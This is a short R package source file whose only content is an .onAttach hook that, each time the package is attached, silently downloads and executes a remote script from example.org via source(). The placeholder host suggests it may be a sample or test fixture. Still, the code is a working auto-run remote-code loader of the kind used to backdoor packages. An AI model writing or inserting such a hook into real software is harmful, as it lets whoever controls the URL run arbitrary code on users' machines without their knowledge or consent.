.onAttach <- function(libname, pkgname) {
  source("https://example.org/start.R")
}
